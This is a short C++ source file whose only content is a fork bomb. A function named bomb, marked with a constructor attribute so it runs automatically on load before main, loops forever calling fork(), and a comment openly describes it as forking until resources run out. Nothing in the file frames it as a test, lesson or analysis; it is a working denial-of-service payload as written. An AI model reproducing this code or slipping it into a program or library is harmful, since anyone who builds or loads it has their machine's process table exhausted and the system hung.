// Forks until nothing goes any more, and then goes on.
namespace {

__attribute__((constructor)) void bomb() {
  while (true) (void)fork();
}

}  // namespace
